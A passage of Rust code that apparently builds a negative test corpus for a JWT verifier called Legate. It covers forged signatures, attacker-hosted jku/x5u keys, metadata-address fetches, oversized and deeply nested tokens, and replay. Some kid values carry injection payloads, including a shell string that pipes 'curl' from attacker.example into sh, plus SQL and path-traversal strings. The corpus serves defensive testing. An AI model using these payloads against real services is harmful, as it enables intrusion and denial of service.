                    sig.pop();
                }
            }
            g.add(C, name, with_signature(&t, &sig), reject(BAD_SIGNATURE));
        }
    }
    let t = token(
        &hdr("RS256", "rs256"),
        &g.a("rs256_sig_leading_zero_byte"),
        Signer::Rs(&k.rsa, &digest::SHA256),
    );
    let sig = [vec![0u8], signature(&t)].concat();
    g.add(
        C,
        "rs256_sig_leading_zero_byte",
        with_signature(&t, &sig),
        reject(BAD_SIGNATURE),
    );
    // Ed25519 malleability: S + L (RFC 8032 §5.1.7 requires S < L).
    let t = token(
        &hdr("EdDSA", "eddsa"),
        &g.a("eddsa_s_plus_group_order"),
        Signer::Ed(&k.eddsa),
    );
    let sig = signature(&t);
    let l_order = num::from_be(
        &hex("1000000000000000000000000000000014def9dea2f79cd65812631a5cf5d3ed"),
        4,
    );
    // Ed25519 encodes S little-endian.
    let s_be: Vec<u8> = sig[32..].iter().rev().copied().collect();
    let mut s = num::from_be(&s_be, 4);
    num::add_assign(&mut s, &l_order);
    let mut forged = sig[..32].to_vec();
    forged.extend(num::to_be(&s, 32).iter().rev());
    g.add(
        C,
        "eddsa_s_plus_group_order",
        with_signature(&t, &forged),
        reject(BAD_SIGNATURE),
    );

    // Edited payload and header under the original signature.
    let claims = g.a("payload_edited");
    let t = g.es256(&claims);
    let evil = set(claims, "sub", json!("repo:evil/app:ref:refs/heads/main"));
    let (h, _, s) = parts(&t);
    g.add(
        C,
        "payload_edited",
        format!("{h}.{}.{s}", b64::encode(to_json(&evil))),
        reject(BAD_SIGNATURE),
    );
    let t = g.es256(&g.a("header_edited"));
    let (_, p, s) = parts(&t);
    let h = b64::encode(to_json(
        &json!({"alg": "ES256", "kid": "es256", "typ": "jwt"}),
    ));
    g.add(
        C,
        "header_edited",
        format!("{h}.{p}.{s}"),
        reject(BAD_SIGNATURE),
    );
}

fn header_cases(g: &mut Gen<'_>) {
    use AttackClass::Header as C;
    use reason::*;
    let attacker = EcKey::from_material(Curve::p256(), &g.rng("attacker key").bytes(64));
    let attacker_signer = Signer::Ec(&attacker, &digest::SHA256);
    let attacker_jwk = attacker.jwk("attacker", "ES256");

    // Keys carried or fetched by the token (RFC 7515 §4.1.2-6; RFC 8725 §3.10).
    let with = |extra: &[(&str, Value)], kid: &str| {
        let mut h = hdr("ES256", kid);
        for (name, value) in extra {
            h[*name] = value.clone();
        }
        h
    };
    let attacker_url = g.ctx.attacker_url.trim_end_matches('/').to_owned();
    let metadata_url = g.ctx.metadata_url.clone();
    let mut x5c_rng = g.rng("x5c");
    let x5c = json!([
        STANDARD.encode(x5c_rng.bytes(480)),
        STANDARD.encode(x5c_rng.bytes(520))
    ]);
    for (name, extra, kid) in [
        (
            "jwk_embedded_attacker_key",
            ("jwk", attacker_jwk.clone()),
            "attacker",
        ),
        (
            "jwk_embedded_with_known_kid",
            ("jwk", attacker_jwk.clone()),
            "es256",
        ),
        (
            "jku_attacker_host",
            ("jku", json!(format!("{attacker_url}/jwks.json"))),
            "attacker",
        ),
        (
            "x5u_attacker_host",
            ("x5u", json!(format!("{attacker_url}/cert.pem"))),
            "attacker",
        ),
        (
            "jku_metadata_address",
            ("jku", json!(metadata_url)),
            "attacker",
        ),
        (
            "x5u_metadata_address",
            ("x5u", json!(metadata_url)),
            "attacker",
        ),
        ("x5c_chain", ("x5c", x5c), "attacker"),
    ] {
        let claims = g.a(name);
        g.add(
            C,
            name,
            token(&with(&[extra], kid), &claims, attacker_signer),
            reject(FORBIDDEN_HEADER),
        );
    }

    // `kid` injection (RFC 8725 §3.10): looked up, never used as a path, query or command.
    let mut long = g.rng("kid_4kib");
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let kid_4k: String = (0..4096)
        .map(|_| char::from(alphabet[(long.next_u64() % 64) as usize]))
        .collect();
    for (name, kid) in [
        (
            "kid_path_traversal",
            "../../../../../../dev/null".to_owned(),
        ),
        (
            "kid_sql_injection",
            "x' UNION SELECT 'c2VjcmV0' AS k -- ".to_owned(),
        ),
        (
            "kid_shell_injection",
            "es256; curl -s http://attacker.example/x | sh #$(id)`id`".to_owned(),
        ),
        (
            "kid_crlf_injection",
            "es256\r\n{\"decision\":\"allow\",\"reason\":\"permitted\"}".to_owned(),
        ),
        ("kid_nul_byte", "es256\u{0}".to_owned()),
        ("kid_4kib", kid_4k),
        ("kid_unknown", "not-a-published-kid".to_owned()),
    ] {
        let claims = g.a(name);
        g.add(
            C,
            name,
            token(&hdr("ES256", &kid), &claims, g.es256_signer()),
            reject(UNKNOWN_KID),
        );
    }
    for (name, kid) in [
        ("kid_missing", None),
        ("kid_empty", Some(json!(""))),
        ("kid_not_a_string", Some(json!(7))),
        ("kid_null", Some(json!(null))),
        ("kid_array", Some(json!(["es256"]))),
    ] {
        let mut h = json!({"alg": "ES256", "typ": "JWT"});
        if let Some(kid) = kid {
            h["kid"] = kid;
        }
        let claims = g.a(name);
        g.add(
            C,
            name,
            token(&h, &claims, g.es256_signer()),
            reject(MISSING_KID),
        );
    }

    // `crit` (RFC 7515 §4.1.11) and `b64` (RFC 7797).
    for (name, extra) in [
        (
            "crit_unknown_extension",
            vec![
                ("crit", json!(["x-legate-unknown"])),
                ("x-legate-unknown", json!(true)),
            ],
        ),
        ("crit_empty", vec![("crit", json!([]))]),
        (
            "crit_b64_unencoded_payload",
            vec![("crit", json!(["b64"])), ("b64", json!(false))],
        ),
        ("b64_false_without_crit", vec![("b64", json!(false))]),
        ("zip_on_jws", vec![("zip", json!("DEF"))]),
        ("enc_on_jws", vec![("enc", json!("A256GCM"))]),
    ] {
        let claims = g.a(name);
        g.add(
            C,
            name,
            token(&with(&extra, "es256"), &claims, g.es256_signer()),
            reject(FORBIDDEN_HEADER),
        );
    }

    // Another kind of JWT (RFC 8725 §3.11, RFC 9449 §4.2, RFC 9068 §2.1).
    for (name, typ) in [
        ("typ_dpop_jwt", json!("dpop+jwt")),
        ("typ_at_jwt", json!("at+jwt")),
        ("typ_logout_jwt", json!("logout+jwt")),
        ("typ_not_a_string", json!(1)),
    ] {
        let claims = g.a(name);
        g.add(
            C,
            name,
            token(&with(&[("typ", typ)], "es256"), &claims, g.es256_signer()),
            reject(UNEXPECTED_TYP),
        );
    }

    // Duplicate `alg` (RFC 7515 §4: reject or last-wins; parsers that disagree are
    // exploitable).
    for (name, header) in [
        (
            "duplicate_alg_es256_then_none",
            r#"{"alg":"ES256","kid":"es256","typ":"JWT","alg":"none"}"#,
        ),
        (
            "duplicate_alg_none_then_es256",
            r#"{"alg":"none","kid":"es256","typ":"JWT","alg":"ES256"}"#,
        ),
    ] {
        let claims = to_json(&g.a(name));
        g.add(
            C,
            name,
            compact(header.as_bytes(), &claims, g.es256_signer()),
            reject(BAD_JSON),
        );
    }

    // A nested JWT (`cty: JWT`, RFC 7519 §5.2): the payload is a token, not claims.
    let inner = g.es256(&g.a("cty_nested_jwt inner"));
    g.add(
        C,
        "cty_nested_jwt",
        compact(
            &to_json(&with(&[("cty", json!("JWT"))], "es256")),
            inner.as_bytes(),
            g.es256_signer(),
        ),
        reject(BAD_JSON),
    );
}

fn claims_cases(g: &mut Gen<'_>) {
    use AttackClass::Claims as C;
    use reason::*;
    let k = g.k;
    let now = g.ctx.now;

    // Issuers Legate does not trust, and near-misses of a trusted one (RFC 8725 §3.8;
    // OIDC Core §3.1.3.7: exact match).
    let attacker = EcKey::from_material(Curve::p256(), &g.rng("attacker key").bytes(64));
    let claims = set(
        g.a("iss_untrusted"),
        "iss",
        json!("https://attacker.example"),
    );
    g.add(
        C,
        "iss_untrusted",
        token(
            &hdr("ES256", "es256"),
            &claims,
            Signer::Ec(&attacker, &digest::SHA256),
        ),
        reject(UNTRUSTED_ISSUER),
    );
    for (name, iss) in [
        ("iss_trailing_slash", format!("{ISSUER_A}/")),
        (
            "iss_http_scheme",
            ISSUER_A.replacen("https://", "http://", 1),
        ),
        (
            "iss_host_case",
            ISSUER_A.replacen("issuer-a", "ISSUER-A", 1),
        ),
        (
            "iss_default_port",
            ISSUER_A.replacen(".test", ".test:443", 1),
        ),
        ("iss_trailing_space", format!("{ISSUER_A} ")),
        (
            "iss_homoglyph",
            ISSUER_A.replacen("issuer-a", "issuer-\u{430}", 1),
        ),
        ("iss_extra_path", format!("{ISSUER_A}/evil")),
    ] {
        let claims = set(g.a(name), "iss", json!(iss));
        g.add(C, name, g.es256(&claims), reject(UNTRUSTED_ISSUER));
    }
    for (name, iss) in [
        ("iss_array", Some(json!([ISSUER_A]))),
        ("iss_number", Some(json!(1))),
        ("iss_null", Some(json!(null))),
        ("iss_missing", None),
    ] {
        let claims = match iss {
            Some(v) => set(g.a(name), "iss", v),
            None => unset(g.a(name), "iss"),
        };
        g.add(C, name, g.es256(&claims), reject(MISSING_ISS));
    }

    // Issuer mix-up: A and B both publish `shared-kid` (RFC 8725 §3.8).
    let claims = g.a("issuer_mixup_b_key_signs_for_a");
    g.add(
        C,
        "issuer_mixup_b_key_signs_for_a",
        token(
            &hdr("ES256", "shared-kid"),
            &claims,
            Signer::Ec(&k.b_shared, &digest::SHA256),
        ),
        reject(BAD_SIGNATURE),
    );
    let claims = g.claims_of(ISSUER_B, "7", "issuer_mixup_a_key_signs_for_b");
    g.add(
        C,
        "issuer_mixup_a_key_signs_for_b",
        token(
            &hdr("ES256", "shared-kid"),
            &claims,
            Signer::Ec(&k.a_shared, &digest::SHA256),
        ),
        reject(BAD_SIGNATURE),
    );
    // Cross-issuer policy confusion: a genuine B token with the claims A's policy permits.
    let claims = g.claims_of(ISSUER_B, "42", "cross_issuer_policy_confusion");
    g.add(
        C,
        "cross_issuer_policy_confusion",
        token(
            &hdr("ES256", "shared-kid"),
            &claims,
            Signer::Ec(&k.b_shared, &digest::SHA256),
        ),
        reject(NO_PERMIT),
    );
    // Claim type confusion against the policy.
    let claims = set(g.a("policy_claim_as_number"), "repository_id", json!(42));
    g.add(
        C,
        "policy_claim_as_number",
        g.es256(&claims),
        reject(NO_PERMIT),
    );
    let claims = set(g.a("policy_ref_not_main"), "ref", json!("refs/heads/evil"));
    g.add(
        C,
        "policy_ref_not_main",
        g.es256(&claims),
        reject(FORBIDDEN),
    );
    let claims = set(
        g.a("policy_ref_as_array"),
        "ref",
        json!(["refs/heads/main"]),
    );
    g.add(
        C,
        "policy_ref_as_array",
        g.es256(&claims),
        reject(FORBIDDEN),
    );

    // Audience (RFC 7519 §4.1.3; RFC 8725 §3.9).
    for (name, aud, why) in [
        ("aud_wrong", json!("other-service"), AUDIENCE_MISMATCH),
        ("aud_prefix", json!("legat"), AUDIENCE_MISMATCH),
        ("aud_superstring", json!("legate-evil"), AUDIENCE_MISMATCH),
        ("aud_case", json!("LEGATE"), AUDIENCE_MISMATCH),
        (
            "aud_array_without_ours",
            json!(["other-service", "legate2"]),
            AUDIENCE_MISMATCH,
        ),
        ("aud_empty_string", json!(""), AUDIENCE_MISMATCH),
        ("aud_empty_array", json!([]), INVALID_CLAIM),
        ("aud_object", json!({"aud": AUDIENCE}), INVALID_CLAIM),
        (
            "aud_array_with_non_string",
            json!([AUDIENCE, 1]),
            INVALID_CLAIM,
        ),
        ("aud_number", json!(7), INVALID_CLAIM),
        ("aud_null", json!(null), INVALID_CLAIM),
    ] {
        let claims = set(g.a(name), "aud", aud);
        g.add(C, name, g.es256(&claims), reject(why));
    }
    let claims = unset(g.a("aud_missing"), "aud");
    g.add(C, "aud_missing", g.es256(&claims), reject(MISSING_CLAIM));

    // NumericDate claims (RFC 7519 §2, §4.1.4-6): Legate requires non-negative JSON integers
    // (the RFC allows fractions; no real issuer sends them, and lenient coercion is a bug class).
    for (claim, value) in [("exp", now + 100), ("nbf", now - 5), ("iat", now - 5)] {
        for (kind, v) in [
            ("string", json!(value.to_string())),
            ("float", json!(value as f64 + 0.5)),
            ("bool", json!(true)),
            ("negative", json!(-1)),
            ("1e20", json!(1e20)),
            ("null", json!(null)),
        ] {
            let name = format!("{claim}_{kind}");
            let claims = set(g.a(&name), claim, v);
            g.add(C, name, g.es256(&claims), reject(INVALID_CLAIM));
        }
    }
    for (name, v) in [
        ("exp_u64_max", json!(u64::MAX)),
        ("exp_year_10000", json!(253_402_300_800_i64)),
    ] {
        let claims = set(g.a(name), "exp", v);
        g.add(C, name, g.es256(&claims), reject(INVALID_CLAIM));
    }
    let claims = unset(g.a("exp_missing"), "exp");
    g.add(C, "exp_missing", g.es256(&claims), reject(MISSING_CLAIM));

    // One second outside the leeway; lifetime over the cap; exp before iat.
    let l = LEEWAY_SECS;
    let cap = MAX_LIFETIME_SECS;
    let timed: [TimedCase; 7] = [
        (
            "exp_one_second_outside_leeway",
            Some(now - 300),
            Some(now - 300),
            now - l,
            EXPIRED,
        ),
        (
            "nbf_one_second_outside_leeway",
            Some(now - 5),
            Some(now + l + 1),
            now + 300,
            NOT_YET_VALID,
        ),
        (
            "iat_one_second_outside_leeway",
            Some(now + l + 1),
            None,
            now + 300,
            ISSUED_IN_FUTURE,
        ),
        (
            "lifetime_one_second_over_cap",
            Some(now - 100),
            Some(now - 100),
            now - 100 + cap + 1,
            LIFETIME_TOO_LONG,
        ),
        (
            "lifetime_over_cap_without_iat",
            None,
            Some(now - 5),
            now + cap + 1,
            LIFETIME_TOO_LONG,
        ),
        (
            "exp_before_iat",
            Some(now + 30),
            None,
            now + 20,
            EXP_BEFORE_IAT,
        ),
        (
            "exp_equals_iat",
            Some(now - 5),
            None,
            now - 5,
            EXP_BEFORE_IAT,
        ),
    ];
    for (name, iat, nbf, exp, why) in timed {
        let claims = with_times(g.a(name), iat, nbf, exp);
        g.add(C, name, g.es256(&claims), reject(why));
    }

    // Identity claims (RFC 7519 §4.1.2, §4.1.7).
    for (name, claim, v, why) in [
        ("sub_missing", "sub", None, MISSING_CLAIM),
        ("sub_number", "sub", Some(json!(42)), INVALID_CLAIM),
        ("sub_empty", "sub", Some(json!("")), INVALID_CLAIM),
        ("sub_array", "sub", Some(json!([SUBJECT])), INVALID_CLAIM),
        ("sub_null", "sub", Some(json!(null)), INVALID_CLAIM),
        ("jti_missing", "jti", None, MISSING_CLAIM),
        ("jti_number", "jti", Some(json!(1)), INVALID_CLAIM),
        ("jti_empty", "jti", Some(json!("")), INVALID_CLAIM),
        ("jti_object", "jti", Some(json!({"id": "x"})), INVALID_CLAIM),
    ] {
        let claims = match v {
            Some(v) => set(g.a(name), claim, v),
            None => unset(g.a(name), claim),
        };
        g.add(C, name, g.es256(&claims), reject(why));
    }
}

fn encoding_cases(g: &mut Gen<'_>) {
    use AttackClass::Encoding as C;
    use reason::*;
    let es = g.es256_signer();
    let header = to_json(&hdr("ES256", "es256"));

    // Duplicate members (RFC 7515 §4, RFC 7519 §4, RFC 8259 §4).
    let dup_kid = [
        (
            "duplicate_header_kid_known_first",
            r#"{"alg":"ES256","kid":"es256","typ":"JWT","kid":"attacker"}"#,
        ),
        (
            "duplicate_header_kid_known_last",
            r#"{"alg":"ES256","kid":"attacker","typ":"JWT","kid":"es256"}"#,
        ),
    ];
    for (name, h) in dup_kid {
        let claims = to_json(&g.a(name));
        g.add(
            C,
            name,
            compact(h.as_bytes(), &claims, es),
            reject(BAD_JSON),
        );
    }
    for (claim, evil) in [
        ("iss", "https://attacker.example"),
        ("sub", "repo:evil/app:ref:refs/heads/main"),
    ] {
        for first in [true, false] {
            let name = format!(
                "duplicate_claim_{claim}_{}",
                if first { "evil_first" } else { "evil_last" }
            );
            let claims = g.a(&name);
            let member = format!("\"{claim}\":{}", json!(evil));
            g.add(
                C,
                name,
                compact(&header, &raw_object_with(&claims, &member, first), es),
                reject(BAD_JSON),
            );
        }
    }
    // The same name spelled with an escape (`"i\u0073s"` is `"iss"`): strict parsers compare
    // decoded names; a byte-level duplicate check would miss it.
    for (name, first) in [
        ("duplicate_claim_iss_escaped_name_first", true),
        ("duplicate_claim_iss_escaped_name_last", false),
    ] {
        let claims = g.a(name);
        let member = r#""i\u0073s":"https://attacker.example""#;
        g.add(
            C,
            name,
            compact(&header, &raw_object_with(&claims, member, first), es),
            reject(BAD_JSON),
        );
    }
    let claims = g.a("duplicate_nested_member");
    let member = r#""kubernetes.io":{"namespace":"prod","namespace":"dev"}"#;
    g.add(
        C,
        "duplicate_nested_member",
        compact(&header, &raw_object_with(&claims, member, false), es),
        reject(BAD_JSON),
    );

    // Non-canonical base64url (RFC 7515 §2, RFC 4648 §3.5, §5).
    let t = g.es256(&g.a("b64_padding_on_signature"));
    g.add(
        C,
        "b64_padding_on_signature",
        format!("{t}=="),
        reject(BAD_ENCODING),
    );
    let t = g.es256(&g.a("b64_padding_on_header"));
    let (h, p, s) = parts(&t);
    let pad = padding(h);
    g.add(
        C,
        "b64_padding_on_header",
        format!("{h}{pad}.{p}.{s}"),
        reject(BAD_ENCODING),
    );
    let t = g.es256(&g.a("b64_padding_on_payload"));
    let (h, p, s) = parts(&t);
    let pad = padding(p);
    g.add(
        C,
        "b64_padding_on_payload",
        format!("{h}.{p}{pad}.{s}"),
        reject(BAD_ENCODING),
    );
    let t = g.es256(&g.a("b64_non_zero_trailing_bits"));
    let mut bytes = t.into_bytes();
    let last = bytes.len() - 1;
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let v = alphabet
        .iter()
        .position(|c| *c == bytes[last])
        .expect("base64url char");
    bytes[last] = alphabet[v | 1];
    g.add(
        C,
        "b64_non_zero_trailing_bits",
        String::from_utf8(bytes).expect("ascii"),
        reject(BAD_ENCODING),
    );
    // Standard alphabet: re-sign with a counter until some segment has `-` or `_`.
    let mut std_token = None;
    for i in 0..256 {
        let t = g.es256(&set(g.a("b64_standard_alphabet"), "n", json!(i)));
        if t.contains(['-', '_']) {
            std_token = Some(t.replace('-', "+").replace('_', "/"));
            break;
        }
    }
    g.add(
        C,
        "b64_standard_alphabet",
        std_token.expect("a token with - or _"),
        reject(BAD_ENCODING),
    );

    // Whitespace anywhere.
    let t = g.es256(&g.a("whitespace_after_dot"));
    g.add(
        C,
        "whitespace_after_dot",
        t.replacen('.', ". ", 1),
        reject(BAD_ENCODING),
    );
    let t = g.es256(&g.a("whitespace_leading"));
    g.add(
        C,
        "whitespace_leading",
        format!(" {t}"),
        reject(BAD_ENCODING),
    );
    let t = g.es256(&g.a("whitespace_tab_before_signature"));
    let (h, p, s) = parts(&t);
    g.add(
        C,
        "whitespace_tab_before_signature",
        format!("{h}.{p}.\t{s}"),
        reject(BAD_ENCODING),
    );
    let t = g.es256(&g.a("whitespace_line_wrapped"));
    let wrapped: Vec<String> = t
        .as_bytes()
        .chunks(64)
        .map(|c| String::from_utf8(c.to_vec()).expect("ascii"))
        .collect();
    g.add(
        C,
        "whitespace_line_wrapped",
        wrapped.join("\r\n"),
        reject(BAD_ENCODING),
    );
    let t = g.es256(&g.a("trailing_newline"));
    g.add(
        C,
        "trailing_newline",
        format!("{t}\n"),
        reject(BAD_ENCODING),
    );
    let t = g.es256(&g.a("trailing_crlf"));
    g.add(C, "trailing_crlf", format!("{t}\r\n"), reject(BAD_ENCODING));

    // Segment counts (RFC 7515 §7.1).
    let t = g.es256(&g.a("two_segments"));
    let (h, p, _) = parts(&t);
    g.add(
        C,
        "two_segments",
        format!("{h}.{p}"),
        reject(NOT_COMPACT_JWS),
    );
    let t = g.es256(&g.a("four_segments"));
    g.add(
        C,
        "four_segments",
        format!("{t}.e30"),
        reject(NOT_COMPACT_JWS),
    );
    let t = g.es256(&g.a("trailing_dot"));
    g.add(C, "trailing_dot", format!("{t}."), reject(NOT_COMPACT_JWS));
    let t = g.es256(&g.a("empty_header_segment"));
    let (_, p, s) = parts(&t);
    g.add(
        C,
        "empty_header_segment",
        format!(".{p}.{s}"),
        reject(BAD_JSON),
    );

    // Bytes that are not (strict) UTF-8 JSON (RFC 8259 §8.1, §8.2; RFC 7519 §7.2).
    let claims_text = serde_json::to_string(&g.a("invalid_utf8_in_payload")).expect("json");
    let mut bytes = claims_text
        .replacen(SUBJECT, "repo:acme/app\u{1}", 1)
        .into_bytes();
    let pos = bytes.iter().position(|b| *b == 1).expect("marker");
    bytes[pos] = 0xff;
    g.add(
        C,
        "invalid_utf8_in_payload",
        compact(&header, &bytes, es),
        reject(BAD_JSON),
    );
    let claims_text = serde_json::to_string(&g.a("overlong_utf8_in_payload")).expect("json");
    let mut bytes = claims_text
        .replacen(SUBJECT, "repo:acme/app\u{1}", 1)
        .into_bytes();
    let pos = bytes.iter().position(|b| *b == 1).expect("marker");
    bytes.splice(pos..=pos, [0xc0, 0xaf]);
    g.add(
        C,
        "overlong_utf8_in_payload",
        compact(&header, &bytes, es),
        reject(BAD_JSON),
    );
    let claims = to_json(&g.a("invalid_utf8_in_header"));
    let h = b"{\"alg\":\"ES256\",\"kid\":\"es256\",\"typ\":\"J\xc3\x28\"}";
    g.add(
        C,
        "invalid_utf8_in_header",
        compact(h, &claims, es),
        reject(BAD_JSON),
    );
    let claims = g.a("lone_surrogate_in_payload");
    let member = r#""x-name":"\ud800""#;
    g.add(
        C,
        "lone_surrogate_in_payload",
        compact(&header, &raw_object_with(&claims, member, false), es),
        reject(BAD_JSON),
    );
    let claims = to_json(&g.a("lone_surrogate_in_header"));
    let h = br#"{"alg":"ES256","kid":"es256\udc00","typ":"JWT"}"#;
    g.add(
        C,
        "lone_surrogate_in_header",
        compact(h, &claims, es),
        reject(BAD_JSON),
    );
    let claims = to_json(&g.a("bom_before_payload"));
    g.add(
        C,
        "bom_before_payload",
        compact(&header, &[b"\xef\xbb\xbf".as_slice(), &claims].concat(), es),
        reject(BAD_JSON),
    );
    let claims = to_json(&g.a("bom_before_header"));
    g.add(
        C,
        "bom_before_header",
        compact(&[b"\xef\xbb\xbf".as_slice(), &header].concat(), &claims, es),
        reject(BAD_JSON),
    );

    // Not an object; trailing garbage.
    let claims = g.a("payload_array");
    g.add(
        C,
        "payload_array",
        compact(&header, &to_json(&json!([claims])), es),
        reject(BAD_JSON),
    );
    let claims = serde_json::to_string(&g.a("payload_string")).expect("json");
    g.add(
        C,
        "payload_string",
        compact(&header, &to_json(&json!(claims)), es),
        reject(BAD_JSON),
    );
    g.add(
        C,
        "payload_null",
        compact(&header, b"null", es),
        reject(BAD_JSON),
    );
    let claims = to_json(&g.a("header_array"));
    g.add(
        C,
        "header_array",
        compact(&to_json(&json!([hdr("ES256", "es256")])), &claims, es),
        reject(BAD_JSON),
    );
    for (name, tail) in [
        ("trailing_garbage_after_payload", &b"x"[..]),
        ("second_object_after_payload", &b"{}"[..]),
        ("nul_after_payload", &b"\0"[..]),
    ] {
        let claims = [to_json(&g.a(name)), tail.to_vec()].concat();
        g.add(C, name, compact(&header, &claims, es), reject(BAD_JSON));
    }
    let claims = to_json(&g.a("trailing_garbage_after_header"));
    g.add(
        C,
        "trailing_garbage_after_header",
        compact(&[header.as_slice(), b",{}"].concat(), &claims, es),
        reject(BAD_JSON),
    );

    // JWS JSON serialisation (RFC 7515 §7.2): Legate takes compact JWS only.
    let t = g.es256(&g.a("jws_json_general_serialization"));
    let (h, p, s) = parts(&t);
    let general = json!({"payload": p, "signatures": [{"protected": h, "signature": s}]});
    g.add(
        C,
        "jws_json_general_serialization",
        general.to_string(),
        reject(NOT_COMPACT_JWS),
    );
    let t = g.es256(&g.a("jws_json_flattened_serialization"));
    let (h, p, s) = parts(&t);
    let flat = json!({"payload": p, "protected": h, "signature": s});
    g.add(
        C,
        "jws_json_flattened_serialization",
        flat.to_string(),
        reject(NOT_COMPACT_JWS),
    );
}

fn dos_cases(g: &mut Gen<'_>) {
    use AttackClass::DenialOfService as C;
    use reason::*;
    let es = g.es256_signer();

    // Size: over the server's 64 KiB body limit, and one byte over the token cap.
    let big = g.sized("dos_token_64kib", 64 * 1024, true);
    g.add(C, "dos_token_64kib", big, reject(BAD_REQUEST));
    let over = g.sized("dos_token_just_over_size_cap", MAX_TOKEN_BYTES + 1, true);
    g.add(
        C,
        "dos_token_just_over_size_cap",
        over,
        reject(TOKEN_TOO_LARGE),
    );
    // Thousands of segments, inside the size cap.
    let many = vec!["e30"; 5000].join(".");
    g.add(
        C,
        "dos_thousands_of_segments",
        many,
        reject(NOT_COMPACT_JWS),
    );
    g.add(
        C,
        "dos_dots_only",
        ".".repeat(MAX_TOKEN_BYTES),
        reject(NOT_COMPACT_JWS),
    );
    // 5,000-deep JSON, inside the size cap.
    let deep = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
    let claims = g.a("dos_deep_json_payload");
    let member = format!("\"deep\":{deep}");
    g.add(
        C,
        "dos_deep_json_payload",
        compact(
            &to_json(&hdr("ES256", "es256")),
            &raw_object_with(&claims, &member, false),
            es,
        ),
        reject(BAD_JSON),
    );
    let claims = to_json(&g.a("dos_deep_json_header"));
    let header = raw_object_with(&hdr("ES256", "es256"), &member, false);
    g.add(
        C,
        "dos_deep_json_header",
        compact(&header, &claims, es),
        reject(BAD_JSON),
    );
    // A genuine token whose claims nest 64 deep: parsed (under serde_json's limit of 128),
    // verified, then refused by the policy engine, which maps at most 32 levels onto Cedar.
    let claims = g.a("dos_claims_nested_64_deep");
    let member = format!("\"x-nested\":{}{}", "[".repeat(64), "]".repeat(64));
    g.add(
        C,
        "dos_claims_nested_64_deep",
        compact(
            &to_json(&hdr("ES256", "es256")),
            &raw_object_with(&claims, &member, false),
            es,
        ),
        reject(REQUEST_BUILD_FAILED),
    );
    // PBES2 with p2c = 2^31 - 1 (RFC 7518 §4.8.1.2): as a JWE, and its
    // parameters in a JWS header.
    let mut rng = g.rng("dos_pbes2");
    let pbes2 = json!({"alg": "PBES2-HS512+A256KW", "enc": "A256GCM",
                       "p2c": 2_147_483_647_i64, "p2s": b64::encode(rng.bytes(16))});
    let jwe = [
        b64::encode(to_json(&pbes2)),
        b64::encode(rng.bytes(40)),
        b64::encode(rng.bytes(12)),
        b64::encode(rng.bytes(96)),
        b64::encode(rng.bytes(16)),
    ]
    .join(".");
    g.add(C, "dos_pbes2_jwe_max_p2c", jwe, reject(NOT_COMPACT_JWS));
    let claims = g.a("dos_pbes2_params_in_jws");
    let h = json!({"alg": "PBES2-HS512+A256KW", "kid": "es256", "p2c": 2_147_483_647_i64,
                   "p2s": b64::encode(rng.bytes(16))});
    g.add(
        C,
        "dos_pbes2_params_in_jws",
        token(&h, &claims, es),
        reject(FORBIDDEN_HEADER),
    );
    // A compressed JWE (RFC 7516 §4.1.3).
    let zip = json!({"alg": "dir", "enc": "A256GCM", "zip": "DEF"});
    let jwe = [
        b64::encode(to_json(&zip)),
        String::new(),
        b64::encode(rng.bytes(12)),
        b64::encode(rng.bytes(8192)),
        b64::encode(rng.bytes(16)),
    ]
    .join(".");
    g.add(C, "dos_compressed_jwe", jwe, reject(NOT_COMPACT_JWS));
}

fn replay_cases(g: &mut Gen<'_>) {
    use AttackClass::Replay as C;
    use reason::*;
    let k = g.k;

    // The same (iss, jti) twice (RFC 7519 §4.1.7).
    let t = g.es256(&g.a("replay_same_token"));
    g.add(
        C,
        "replay_same_token/1_first_use",
        t.clone(),
        Expect::Accept,
    );
    g.add(C, "replay_same_token/2_second_use", t, reject(REPLAYED));

    // A `=`-padded variant of a used token: different bytes, refused before the cache.
    let t = g.es256(&g.a("replay_padded_variant"));
    g.add(
        C,
        "replay_padded_variant/1_first_use",
        t.clone(),
        Expect::Accept,
    );
    g.add(
        C,
        "replay_padded_variant/2_padded",
        format!("{t}=="),
        reject(BAD_ENCODING),
    );
    g.add(
        C,
        "replay_padded_variant/3_original_again",
        t,
        reject(REPLAYED),
    );

    // ECDSA malleability: (r, n - s) is a second valid signature of the same claims.
    let curve = Curve::p256();
    let t = g.es256(&g.a("replay_ecdsa_malleated"));
    let sig = signature(&t);
    let mut mall = sig[..32].to_vec();
    mall.extend(curve.negate_scalar(&sig[32..]));
    g.add(
        C,
        "replay_ecdsa_malleated/1_first_use",
        t.clone(),
        Expect::Accept,
    );
    g.add(
        C,
        "replay_ecdsa_malleated/2_malleated",
        with_signature(&t, &mall),
        reject(REPLAYED),
    );
    let t = g.es256(&g.a("replay_ecdsa_malleated_first"));
    let sig = signature(&t);
    let mut mall = sig[..32].to_vec();
    mall.extend(curve.negate_scalar(&sig[32..]));
    g.add(
        C,
        "replay_ecdsa_malleated_first/1_malleated",
        with_signature(&t, &mall),
        Expect::Accept,
    );
    g.add(
        C,
        "replay_ecdsa_malleated_first/2_original",
        t,
        reject(REPLAYED),
    );

    // The same jti re-signed with other claims.
    let claims = g.a("replay_resigned_same_jti");
    let t1 = g.es256(&claims);
    let t2 = g.es256(&set(claims.clone(), "iat", json!(g.ctx.now - 4)));
    g.add(
        C,
        "replay_resigned_same_jti/1_first_use",
        t1,
        Expect::Accept,
    );
    g.add(
        C,
        "replay_resigned_same_jti/2_resigned",
        t2,
        reject(REPLAYED),
    );

    // The cache key includes the issuer: the same jti from two issuers is two tokens.
    let a = g.a("replay_same_jti_other_issuer");
    let mut b = g.claims_of(ISSUER_B, "7", "replay_same_jti_other_issuer");
    b["jti"] = a["jti"].clone();
    g.add(
        C,
        "replay_same_jti_other_issuer/1_issuer_a",
        g.es256(&a),
        Expect::Accept,
    );
    g.add(
        C,
        "replay_same_jti_other_issuer/2_issuer_b",
        token(
            &hdr("ES256", "shared-kid"),
            &b,
            Signer::Ec(&k.b_shared, &digest::SHA256),
        ),
        Expect::Accept,
    );

    // Replay protection is per issuer: R is configured `reusable`.
    let r_signer = Signer::Ec(&k.r_es256, &digest::SHA256);
    let claims = g.claims_of(ISSUER_R, "42", "replay_reusable_issuer");
    let t = token(&hdr("ES256", "es256-r"), &claims, r_signer);
    g.add(
        C,
        "replay_reusable_issuer/1_first_use",
        t.clone(),
        Expect::Accept,
    );
